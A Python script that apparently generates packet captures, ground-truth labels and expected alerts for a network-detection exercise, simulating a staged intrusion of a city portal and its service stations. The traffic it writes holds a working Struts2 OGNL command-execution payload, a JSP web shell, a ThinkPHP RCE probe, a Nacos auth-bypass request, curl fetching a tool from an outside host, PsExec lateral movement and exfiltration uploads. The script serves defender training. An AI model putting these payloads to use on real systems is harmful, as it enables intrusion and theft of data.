#!/usr/bin/env python3
"""Writes exercise-01: three taps and the record of what the red side did, packet by packet (exercise-01/README.md).

    make-exercise-01.py [FOLDER]        # default: exercise-01 beside this script; standard library only, same bytes each time
"""
import pathlib
import struct
import sys

import daily
import protocols
from packets import SECOND, Capture, Dice, Link, Talk, at

HERE = pathlib.Path(__file__).resolve().parent
PORTAL, CONFIG, OFFICE = "10.31.4.20", "10.31.8.40", "10.31.8.50"
FILES, QUEUE, DESK = "10.32.10.12", "10.32.10.20", "10.32.10.31"
STATION, STATION_2 = "10.40.7.18", "10.40.7.34"
NAMES, SCANNER, ADMIN, WATCH = "10.31.4.2", "10.31.250.9", "10.31.4.101", "10.31.250.10"
RED, RED_FILES, RED_CONTROL, RED_DROP, RED_2 = "203.0.113.7", "203.0.113.9", "203.0.113.44", "198.51.100.90", "198.51.100.23"
HOST = "www.city.example"
LINUX = ("linux", "linux")
WINDOWS = ("windows", "windows")


def T(clock):
    """Microseconds of a time of the day of the exercise."""
    return at(f"2026-11-20T{clock}Z")


def shown(time, up=False):
    """RFC 3339, to the millisecond, rounded down or up."""
    milliseconds = (time + (999 if up else 0)) // 1000
    clock = milliseconds // 1000 % 86400
    return f"2026-11-20T{clock // 3600:02}:{clock // 60 % 60:02}:{clock % 60:02}.{milliseconds % 1000:03}Z"


class Site:
    """The three taps with their lines, and the record of red actions."""

    def __init__(self):
        self.taps = {name: Capture() for name in ("centre", "xiangzhou", "doumen")}
        self.portal = Link(self.taps["centre"], "portal", ("10.31.4.", "2001:db8:31:4:"), vlan=104)
        self.cloud = Link(self.taps["centre"], "cloud", ("10.31.8.",), vlan=108)
        self.hall = Link(self.taps["xiangzhou"], "hall", ("10.32.10.",), vlan=210)
        self.station = Link(self.taps["doumen"], "station", (STATION,), pppoe=0x1A2B)
        self.station_2 = Link(self.taps["doumen"], "station-2", (STATION_2,), pppoe=0x1A2C)
        self.campaigns, self.benign, self.alerts = [], [], {}

    def campaign(self, identifier, name):
        """A new campaign; what is done from here on belongs to it."""
        self.campaigns.append((identifier, name, []))

    def did(self, start, until, technique, tactic, source, target, note, alerts, success=True, visible="packets"):
        """Notes an action, and the alerts of our own rules that it gives."""
        identifier, _, actions = self.campaigns[-1]
        actions.append(dict(id=f"{identifier}-{len(actions) + 1}", time=shown(start), until=shown(until, True), technique=technique, tactic=tactic,
                            source=source, target=target, success="true" if success else "false", visible=visible, note=f'"{note}"'))
        self.alerts[actions[-1]["id"]] = alerts

    def looks_bad(self, start, source, target, note, alerts=()):
        """Notes what is benign and does not look so."""
        self.alerts[f"benign-{len(self.benign) + 1}"] = alerts
        self.benign.append(f'  - {{time: {shown(start)}, source: {source}, target: {target}, note: "{note}"}}')

    def write(self, folder):
        """The captures, truth.yaml, and alerts.json: which alerts of our own rules each action gives."""
        for name, capture in self.taps.items():
            capture.write(folder / f"{name}.pcap")
        lines = ["exercise: portal-to-service-station", "campaigns:"]
        for identifier, name, actions in self.campaigns:
            lines += [f"  - id: {identifier}", f"    name: {name}", "    actions:"]
            for action in actions:
                first, *rest = [f"{key}: {value}" for key, value in action.items()]
                lines += [f"      - {first}", *(f"        {line}" for line in rest)]
        lines += ["benign:", *self.benign]
        (folder / "truth.yaml").write_text("\n".join(lines) + "\n")
        rows = [f'  "{action}": [{", ".join(str(sid) for sid in sids)}]' for action, sids in self.alerts.items()]
        (folder / "alerts.json").write_text("{\n" + ",\n".join(rows) + "\n}\n")


def page_talk(site, start, port, client=RED, link=None, server=PORTAL, to_port=80):
    """A connection of the red side to a web server."""
    return Talk(link or site.portal, start, client, port, server, to_port, 21000, LINUX).open()


def reconnaissance(site):
    """Ports of two hosts, then paths of the portal."""
    site.campaign("C1", "From the portal to a service station and out")
    start = now = T("01:03:10.120")
    ports = [21, 22, 23, 25, 80, 110, 111, 135, 139, 143, 389, 443, 445, 873, 1099, 1433, 1521, 2049, 2375, 3306, 3389, 5432, 5900, 6379, 7001,
             8009, 8080, 8161, 8443, 8848, 9000, 9200, 11211, 27017, 50000, 61616]
    for host, opened in ((PORTAL, (80, 443)), ("10.31.4.25", (25, 143, 443))):
        for port in ports:
            talk = Talk(site.portal, now, RED, 51234 + (host != PORTAL), host, port, 900, ("scanner", "linux"))
            if port in opened:
                talk.segment(talk.client, 2, options=b"\x02\x04\x05\xb4")
                talk.now += 900
                talk.segment(talk.server, 18, options=b"\x02\x04\x05\xb4")
                talk.now += 300
                talk.segment(talk.client, 4)
            else:
                talk.refused()
            now += 310_000
    site.did(start, talk.now, "T1595.001", "reconnaissance", RED, PORTAL, "half-open scan of the portal and the mail server", [9000001, 9000001, 9000003])
    start = T("01:05:02.400")
    words = ["admin", "login", "manage", "backup.zip", ".git/config", ".env", "upload", "test", "api", "console", "actuator", "druid", "phpmyadmin",
             "manager/html", "portal", "WEB-INF/web.xml", "old", "bak", "web.rar", "data", "solr", "jenkins", "nacos", "seeyon", "weaver", "yyoa",
             "oa", "system", "static", "swagger-ui.html", "v2/api-docs", "install", "config", "db", "tmp", "log", "logs", "shell", "cmd", "user",
             "users", "index.action", "login.action", "robots.txt", "sitemap.xml", "doc"]
    talk = page_talk(site, start, 43120)
    for word in words:
        status = "200 OK" if word in ("portal", "index.action", "robots.txt") else "404 Not Found"
        talk.ask(protocols.request("GET", f"/{word}", HOST, agent="gobuster/3.6"), 420_000).answer(protocols.response(status, "<h1>Not Found</h1>"), 900)
    talk.close()
    site.did(start, talk.now, "T1595.003", "reconnaissance", RED, PORTAL, "paths guessed from a list", [9000007, 9000008, 9000009])


def break_in(site):
    """Two exploits of the portal: one too old for it, one that runs a command; then a web shell."""
    start = T("01:08:20.015")
    talk = page_talk(site, start, 43388)
    think = "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"
    talk.ask(protocols.request("GET", think, HOST, agent="python-requests/2.31.0")).answer(protocols.response("404 Not Found", "<h1>Not Found</h1>")).close()
    site.did(start, talk.now, "T1190", "initial-access", RED, PORTAL, "call of a ThinkPHP function; the portal does not use it", [9000312], success=False)
    start = T("01:09:05.730")
    talk = page_talk(site, start, 43402)
    ognl = "%{(#n='multipart/form-data').(#d=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#d):((#c=#context" \
           "['com.opensymphony.xwork2.ActionContext.container']).(#o=#c.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#o.getExcludedClasses" \
           "().clear()))).(#p=new java.lang.ProcessBuilder({'/bin/sh','-c','id'})).(#x=#p.start()).(@org.apache.commons.io.IOUtils@copy(#x." \
           "getInputStream(),@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}"
    talk.ask(protocols.request("GET", "/portal/index.action", HOST, [("Content-Type", ognl)], agent="python-requests/2.31.0"))
    talk.answer(protocols.response(body="uid=1001(tomcat) gid=1001(tomcat) groups=1001(tomcat)\n", kind="text/plain", server="Apache-Coyote/1.1"), 60_000).close()
    site.did(start, talk.now, "T1190", "initial-access", RED, PORTAL, "Struts expression in the content type; the portal answers with the output of id", [9000106, 9000308])
    start = T("01:10:12.205")
    talk = page_talk(site, start, 43460)
    shell = '<%@page import="java.io.*"%><%String c=request.getParameter("cmd");if(c!=null){Process p=Runtime.getRuntime().exec(new String[]' \
            '{"/bin/sh","-c",c});BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream()));String l;while((l=r.readLine())!=null)' \
            '{out.println(l);}}%>'
    body = protocols.form("----b7Qx21", [("file", "help.jsp", "image/png", shell), ("folder", None, "", "../portal/upload")])
    talk.ask(protocols.request("POST", "/portal/file/save.action", HOST, [("Content-Type", "multipart/form-data; boundary=----b7Qx21")], body))
    talk.answer(protocols.response(body='{"ok":true,"path":"/portal/upload/help.jsp"}', kind="application/json", server="Apache-Coyote/1.1")).close()
    site.did(start, talk.now, "T1505.003", "persistence", RED, PORTAL, "upload of a web shell, help.jsp", [9000101])


def web_shell(site):
    """What is asked of the web shell, a tool fetched with it, and the sweep of the next access point."""
    interfaces = "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet 10.31.4.20  netmask 255.255.255.0  broadcast 10.31.4.255\n\n" \
                 "lo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n"
    accounts = "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\nsshd:x:74:74:Privilege-separated SSH:/var/empty/sshd:/sbin/nologin\n" \
               "tomcat:x:1001:1001::/home/tomcat:/bin/bash\nfilesync:x:1002:1002:sync to 10.32.10.12:/home/filesync:/bin/bash\n"
    steps = [("01:11:01.300", [("id", "uid=1001(tomcat) gid=1001(tomcat) groups=1001(tomcat)\n"), ("uname%20-a", "Linux portal01 4.19.90-52 #1 SMP x86_64 GNU/Linux\n")],
              "T1059.004", "execution", "commands through the web shell: id, uname", [9000105, 9000106]),
             ("01:12:24.910", [("ifconfig", interfaces)], "T1016", "discovery", "the portal's network configuration through the web shell", [9000110]),
             ("01:13:02.450", [("cat%20/etc/passwd", accounts)], "T1087.001", "discovery", "the portal's accounts through the web shell", [9000111]),
             ("01:13:58.100", [("curl%20-o%20/tmp/.f%20http://203.0.113.9:8000/fscan_amd64", "\n")], None, None, None, ())]
    for port, (clock, commands, technique, tactic, note, alerts) in enumerate(steps, 43510):
        start = T(clock)
        talk = page_talk(site, start, port)
        for command, output in commands:
            talk.ask(protocols.request("GET", f"/portal/upload/help.jsp?cmd={command}", HOST), 900_000)
            talk.answer(protocols.response(body=output, kind="text/html;charset=UTF-8", server="Apache-Coyote/1.1"), 30_000)
        talk.close()
        if technique:
            site.did(start, talk.now, technique, tactic, RED, PORTAL, note, alerts)
    fetch = T("01:13:59.420")
    talk = Talk(site.portal, fetch, PORTAL, 39122, RED_FILES, 8000, 21000, LINUX).open()
    talk.ask(protocols.request("GET", "/fscan_amd64", "203.0.113.9:8000", [("Accept", "*/*")], agent="curl/7.29.0"))
    tool = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + Dice("tool").bytes(7000)
    talk.answer(protocols.response(body=tool, kind="application/octet-stream", server="SimpleHTTP/0.6 Python/3.11.2")).close()
    site.did(start, talk.now, "T1105", "command-and-control", PORTAL, RED_FILES, "the portal fetches a scanner", [9000530])
    start = now = T("01:15:30.640")
    alive = {(FILES, 22): 1, (FILES, 445): 1, (QUEUE, 22): 1, (DESK, 445): 1}
    for last in (*range(1, 33),):
        for port in (22, 445, 3306):
            host = f"10.32.10.{last}"
            talk = Talk(site.hall, now, PORTAL, 40000 + last * 8 + port % 7, host, port, 2600, LINUX)
            if (host, port) in alive:
                talk.open().reset()
            elif host in (FILES, QUEUE, DESK):
                talk.refused()
            else:
                talk.unanswered()
            now += 190_000
    site.did(start, talk.now, "T1046", "discovery", PORTAL, FILES, "sweep of the service hall's network from the portal", [9000002])


def lateral(site):
    """Passwords guessed on the file server, its administrative share, a command prompt; then the service station."""
    start = now = T("01:17:04.085")
    for number in range(14):
        talk = protocols.ssh(Talk(site.hall, now, PORTAL, 41200 + number, FILES, 22, 2600, LINUX), ("brute", number), packets=1, client="SSH-2.0-Go")
        now += 3_400_000
    site.did(start, talk.now, "T1110.001", "credential-access", PORTAL, FILES, "passwords guessed over SSH, in vain", [9000403], success=False)
    start = T("01:18:40.300")
    for number, tries in enumerate((6, 6)):
        smb = protocols.SMBTalk(site.hall, start + number * 14 * SECOND, PORTAL, 41300 + number, FILES).negotiate()
        for attempt in range(tries):
            smb.talk.now += 700_000
            smb.log_in("administrator", "FILESRV", accepted=(number, attempt) == (1, 5))
        smb.close()
    site.did(start, smb.talk.now, "T1110.001", "credential-access", PORTAL, FILES, "passwords guessed over SMB, the last one fits", [9000407])
    start = T("01:20:15.770")
    smb = protocols.SMBTalk(site.hall, start, PORTAL, 41340, FILES).negotiate().log_in("administrator", "FILESRV").connect("\\\\10.32.10.12\\ADMIN$")
    smb.open("PSEXESVC.exe").write("PSEXESVC.exe", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + Dice("service").bytes(1900))
    smb.connect("\\\\10.32.10.12\\IPC$").open("svcctl").write("svcctl", protocols.bind(protocols.uuid("367abb81-9844-35f1-ad32-98f038001003"), 2))
    smb.write("svcctl", protocols.call(12, protocols.service(bytes(4) + Dice("handle").bytes(16), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")))
    site.did(start, smb.talk.now, "T1021.002", "lateral-movement", PORTAL, FILES, "administrative share of the file server, service of PsExec set up", [9000601, 9000603, 9000604])
    start = smb.talk.now = smb.talk.now + 4 * SECOND
    smb.open("PSEXESVC-portal01-3120-stdout")
    prompt = b"Microsoft Windows [Version 10.0.17763.5329]\r\n(c) 2018 Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>"
    for output in (prompt, b"whoami\r\nnt authority\\system\r\n\r\nC:\\Windows\\system32>"):
        smb.exchange(8, struct.pack("<HBBIQQQIIII", 49, 0x50, 0, 1024, 0, 1, 1, 0, 0, 0, 0) + b"\0", struct.pack("<HBBIII", 17, 80, 0, len(output), 0, 0) + output)
    smb.close()
    site.did(start, smb.talk.now, "T1569.002", "execution", PORTAL, FILES, "command prompt of the file server over a pipe", [9000620])
    start = T("01:22:31.510")
    talk = Talk(site.station, start, FILES, 50122, STATION, 3389, 16000, WINDOWS).open()
    talk.ask(protocols.rdp_request("administrator")).answer(protocols.rdp_confirm())
    protocols.records(talk, "bare", rounds=14, seed="desktop").close()
    site.did(start, talk.now, "T1021.001", "lateral-movement", FILES, STATION, "remote desktop from the file server to a service station", [9000611])
    start = T("01:23:44.020")
    smb = protocols.SMBTalk(site.station, start, FILES, 50140, STATION, "JA-WS01").negotiate().log_in("administrator", "JA-WS01")
    smb.connect("\\\\10.40.7.18\\C$").open("Users\\Public\\update.ps1").write("Users\\Public\\update.ps1", Dice("script").bytes(700).hex().encode()).close()
    site.did(start, smb.talk.now, "T1570", "lateral-movement", FILES, STATION, "a script copied to the drive of the service station", [9000602])


def control(site):
    """Stager, beacon and DNS tunnel of the service station."""
    agent = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)"
    start = T("01:25:00.900")
    talk = Talk(site.station, start, STATION, 50300, RED_CONTROL, 80, 24000).open()
    talk.ask(protocols.request("GET", "/MZRc", RED_CONTROL, [("Connection", "Keep-Alive")], agent=agent))
    stage = bytes.fromhex("fce8890000006089e531d2648b52308b520c8b52148b7228") + Dice("stage").bytes(9000)
    talk.answer(protocols.response(body=stage, kind="application/octet-stream", server="Apache")).close()
    site.did(start, talk.now, "T1105", "command-and-control", STATION, RED_CONTROL, "the service station fetches the controller's code", [9000513])
    start = now = T("01:25:40.330")
    dice, cookie, number = Dice("beacon"), protocols.base64(Dice("session").bytes(128)), 0
    while now < T("01:39:30"):
        talk = Talk(site.station, now, STATION, 50310 + number, RED_CONTROL, 80, 24000).open()
        talk.ask(protocols.request("GET", "/visit.js", RED_CONTROL, [("Accept", "*/*"), ("Cookie", cookie), ("Connection", "Keep-Alive")], agent=agent))
        talk.answer(protocols.response(body=dice.bytes(48) if number in (3, 7, 11) else b"", kind="application/octet-stream", server="Apache")).close()
        if number in (4, 8, 12):
            talk = Talk(site.station, talk.now + SECOND, STATION, 50380 + number, RED_CONTROL, 80, 24000).open()
            talk.ask(protocols.request("POST", "/submit.php?id=48213", RED_CONTROL, [("Accept", "*/*"), ("Content-Type", "application/octet-stream")],
                                       b"\0\0\1\x30" + dice.bytes(300), agent)).answer(protocols.response(server="Apache")).close()
        number += 1
        now += 54 * SECOND + dice.below(12 * SECOND)
    site.did(start, talk.now, "T1071.001", "command-and-control", STATION, RED_CONTROL, "beacon about once a minute, with results", [9000510, 9000510, 9000510, 9000511, 9000511])
    start = now = T("01:29:10.260")
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    for number in range(46):
        label = "".join(letters[byte & 31] for byte in dice.bytes(72))
        text = f"{label[:48]}.{label[48:]}.n7.cdn-telemetry.example"
        protocols.lookup(site.station, now, STATION, NAMES, text, "TXT", [(None, "TXT", 1, protocols.base64(dice.bytes(132)))], delay=38_000)
        now += 1_300_000 + dice.below(900_000)
    site.did(start, now, "T1071.004", "command-and-control", STATION, NAMES, "DNS tunnel below cdn-telemetry.example through the city's resolver", [9000501, 9000502, 9000502])


def carry_off(site):
    """Archives leave from the service station and from the file server."""
    start = T("01:34:31.040")
    talk = Talk(site.station, start, STATION, 50460, RED_DROP, 80, 24000).open()
    archive = b"Rar!\x1a\x07\x01\0" + Dice("rar").bytes(30000)
    talk.ask(protocols.request("POST", "/u/ja-ws01.dat", RED_DROP, [("Content-Type", "application/octet-stream")], archive, "Mozilla/4.0"))
    talk.answer(protocols.response(body="ok", kind="text/plain")).close()
    site.did(start, talk.now, "T1048.003", "exfiltration", STATION, RED_DROP, "a RAR archive sent out by the service station", [9000702])
    start = T("01:36:12.870")
    talk = Talk(site.hall, start, FILES, 50810, RED_DROP, 80, 24000).open()
    talk.rough = True
    body = protocols.form("------------------------4f1e", [("f", "share.7z", "application/octet-stream", b"7z\xbc\xaf\x27\x1c\0\x04" + Dice("7z").bytes(38000))])
    talk.ask(protocols.request("POST", "/u/up.php", RED_DROP, [("Accept", "*/*"), ("Content-Type", "multipart/form-data; boundary=------------------------4f1e")],
                               body, "curl/8.4.0")).answer(protocols.response(body="ok", kind="text/plain")).close()
    site.did(start, talk.now, "T1048.003", "exfiltration", FILES, RED_DROP, "a 7-Zip archive of the file server's share sent out", [9000703, 9000704])


def second_campaign(site):
    """Somebody else reads the passwords of the cloud's configuration service."""
    site.campaign("C2", "Passwords of the configuration service")
    start = T("01:12:05.500")
    talk = page_talk(site, start, 36010, RED_2, site.cloud, CONFIG, 8848)
    for path in ("/", "/nacos/", "/nacos/v1/console/server/state", "/actuator/health"):
        status, body = ("200 OK", '{"version":"1.4.0","standalone_mode":"standalone"}') if "nacos" in path else ("404 Not Found", "")
        talk.ask(protocols.request("GET", path, "10.31.8.40:8848", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"), 800_000)
        talk.answer(protocols.response(status, body, "application/json"))
    talk.close()
    site.did(start, talk.now, "T1595.002", "reconnaissance", RED_2, CONFIG, "version of the configuration service asked for", [9000005])
    start = T("01:13:20.840")
    talk = page_talk(site, start, 36022, RED_2, site.cloud, CONFIG, 8848)
    talk.ask(protocols.request("GET", "/nacos/v1/auth/users?pageNo=1&pageSize=9", "10.31.8.40:8848", agent="Nacos-Server"))
    users = '{"totalCount":1,"pageNumber":1,"pagesAvailable":1,"pageItems":[{"username":"nacos","password":"$2a$10$EuWPZHzz32dJN7jexM34MOeYirDdFAZm2kuWj7VEOJhhZkDrxfvUu"}]}'
    talk.answer(protocols.response(body=users, kind="application/json;charset=UTF-8")).close()
    site.did(start, talk.now, "T1190", "initial-access", RED_2, CONFIG, "accounts drawn with the servers' own user agent (CVE-2021-29441)", [9000818, 9000819])
    start = T("01:14:41.330")
    talk = page_talk(site, start, 36031, RED_2, site.cloud, CONFIG, 8848)
    talk.ask(protocols.request("GET", "/nacos/v1/cs/configs?dataId=&group=&pageNo=1&pageSize=99&search=accurate", "10.31.8.40:8848", agent="Nacos-Server"))
    configs = '{"totalCount":2,"pageItems":[{"dataId":"office-prod.yml","group":"DEFAULT_GROUP","content":"spring:\\n  datasource:\\n    url: jdbc:mysql://10.31.8.61:3306/office' \
              '\\n    username: office\\n    password: Of#2024-prod\\n"},{"dataId":"gateway.yml","group":"DEFAULT_GROUP","content":"routes: []"}]}'
    talk.answer(protocols.response(body=configs, kind="application/json;charset=UTF-8")).close()
    site.did(start, talk.now, "T1552.001", "credential-access", RED_2, CONFIG, "configurations with database passwords handed out", [9000822])


def look_alikes(site):
    """What the defenders themselves do and what clumsy people do."""
    start = now = T("01:18:00.100")
    for port in (21, 22, 23, 25, 80, 110, 135, 139, 443, 445, 1433, 3306, 3389, 5432, 6379, 7001, 8080, 8443, 8848, 9200, 27017, 1521, 5900, 5985, 2375, 111, 389, 873, 1099, 2049, 11211):
        talk = Talk(site.cloud, now, SCANNER, 52000, OFFICE, port, 700, ("scanner", "linux"))
        talk = talk.refused()
        now += 120_000
    talk = Talk(site.cloud, now, SCANNER, 52010, OFFICE, 8080, 1500, LINUX).open()
    for path in ("/.git/config", "/seeyon/", "/admin/", "/index.jsp?id=1%20union%20select%201,2,3%20from%20users", "/?x=$%7Bjndi:ldap://10.31.250.9/a%7D"):
        talk.ask(protocols.request("GET", path, "10.31.8.50:8080", agent="Mozilla/5.00 (Nikto/2.5.0)"), 700_000).answer(protocols.response("404 Not Found", "none"))
    talk.close()
    site.looks_bad(start, SCANNER, OFFICE, "the centre's own vulnerability scanner at its weekly work", [9000003, 9000005, 9000009, 9000201, 9000211])
    start = T("01:21:10.600")
    talk = Talk(site.cloud, start, ADMIN, 51020, OFFICE, 8080, 1500).open()
    for password, status in (("b2ZmaWNlOkF1dHVtMjAyNQ==", "401 Unauthorized"), ("b2ZmaWNlOmF1dHVtbjIwMjY=", "401 Unauthorized"), ("b2ZmaWNlOkF1dHVtbi0yMDI2", "200 OK")):
        talk.ask(protocols.request("GET", "/console/", "10.31.8.50:8080", [("Authorization", f"Basic {password}")]), 6 * SECOND)
        talk.answer(protocols.response(status, daily.page(password, 3), headers=[("WWW-Authenticate", 'Basic realm="office"')] if status[0] == "4" else []))
    talk.close()
    site.looks_bad(start, ADMIN, OFFICE, "an administrator mistypes the password twice")
    start = T("01:30:05.200")
    smb = protocols.SMBTalk(site.hall, start, ADMIN, 51300, DESK, "XZ-WS31").negotiate().log_in("ops-admin").connect("\\\\10.32.10.31\\ADMIN$").open("Temp\\patch.msu").close()
    site.looks_bad(start, ADMIN, DESK, "an administrator puts an update on a terminal through its administrative share", [9000601])
    start = T("01:07:15")
    talk = Talk(site.portal, start, "192.0.2.66", 40400, PORTAL, 80, 30000, LINUX).open()
    for number in range(12):
        talk.ask(protocols.request("GET", f"/art/2019/{number + 1}/art_{4000 + 7 * number}.html", HOST, agent="Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/)"), 2 * SECOND)
        talk.answer(protocols.response("404 Not Found", "<h1>Gone</h1>"))
    talk.close()
    site.looks_bad(start, "192.0.2.66", PORTAL, "a search engine asks for pages that are no more")
    start = T("01:26:20.400")
    protocols.ssh(Talk(site.hall, start, ADMIN, 51400, QUEUE, 22, 2600), "mistyped", packets=2)
    protocols.ssh(Talk(site.hall, start + 9 * SECOND, ADMIN, 51401, QUEUE, 22, 2600), "typed", accepted=True)
    site.looks_bad(start, ADMIN, QUEUE, "an administrator mistypes an SSH password once")


def everyday(site):
    """Benign traffic of all access points over the whole time."""
    begin, end = T("01:00:00"), T("01:40:30")
    dice = Dice("everyday")
    for number in range(9):
        start = begin + number * 265 * SECOND + dice.below(60 * SECOND)
        daily.visit(site.portal, start, f"192.0.2.{dice.between(10, 60)}", PORTAL, HOST, delay=19000, rough=number % 4 == 1)
        daily.secure_visit(site.portal, start + 31 * SECOND, f"192.0.2.{dice.between(100, 190)}", PORTAL, "portal", delay=19000)
        daily.visit(site.hall, start + 47 * SECOND, f"10.32.10.{dice.between(31, 39)}", PORTAL, HOST, pages=1, delay=2600, rough=number == 2)
        if number % 2 == 0:
            daily.secure_visit(site.hall, start + 63 * SECOND, f"10.32.10.{dice.between(31, 39)}", "192.0.2.82", dice.choice(["news", "update", "bank"]))
            daily.share(site.hall, start + 88 * SECOND, f"10.32.10.{dice.between(31, 39)}", FILES)
        daily.visit(site.hall, start + 101 * SECOND, STATION_2 if number % 2 else STATION, QUEUE, "queue.xz.city.example", pages=1, systems=("windows", "windows"), delay=14000)
    for link, client, count in ((site.hall, DESK, 5), (site.hall, "10.32.10.33", 4), (site.station, STATION, 5), (site.station_2, STATION_2, 5)):
        for number in range(count):
            start = begin + number * 460 * SECOND + dice.below(200 * SECOND)
            later = daily.names(link, start, client, NAMES)
            if link in (site.station, site.station_2):
                daily.secure_visit(link, later, client, "192.0.2.83", dice.choice(["mail", "update", "news", "bank"]), delay=24000)
                daily.visit(link, later + 40 * SECOND, client, "192.0.2.84", "www.news.example", pages=1, delay=24000)
    for client, link in ((PORTAL, site.portal), (CONFIG, site.cloud), (FILES, site.hall), (STATION, site.station), (STATION_2, site.station_2)):
        for number in range(3):
            protocols.ntp(link, begin + number * 1024 * SECOND + dice.below(90 * SECOND), client, "10.31.250.4")
    for clock in ("01:02:40", "01:16:11", "01:33:52"):
        daily.mail(site.portal, T(clock), "198.51.100.5", "10.31.4.25")
    daily.monitor(site.portal, begin + SECOND, end, WATCH, [PORTAL, "10.31.4.25"], 120 * SECOND)
    daily.monitor(site.hall, begin + 2 * SECOND, end, WATCH, [FILES, QUEUE], 120 * SECOND)
    daily.neighbours(site.hall, begin + 3 * SECOND, end, [FILES, QUEUE, DESK], "10.32.10.254", 480 * SECOND)
    daily.dial(site.station, begin + 4 * SECOND, STATION, "station")
    daily.dial(site.station_2, begin + 95 * SECOND, STATION_2, "station-2")
    daily.keepalive(site.station, begin + 5 * SECOND, end, "station", 90 * SECOND)
    daily.keepalive(site.station_2, begin + 97 * SECOND, end, "station-2", 90 * SECOND)
    for number in range(3):
        start = begin + number * 700 * SECOND + 20 * SECOND
        protocols.lookup(site.portal, start, "2001:db8:50::8", "2001:db8:31:4::2", "www.city.example", "AAAA", [(None, "AAAA", 300, "2001:db8:31:4::20")])
        site.portal.ping(start + SECOND, "2001:db8:50::8", "2001:db8:31:4::20", 77, number, bytes(range(32)))
        daily.visit(site.portal, start + 3 * SECOND, "2001:db8:50::8", "2001:db8:31:4::20", HOST, pages=1)


if __name__ == "__main__":
    folder = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else HERE / "exercise-01"
    city = Site()
    for part in (reconnaissance, break_in, web_shell, lateral, control, carry_off, second_campaign, look_alikes, everyday):
        part(city)
    city.write(folder)
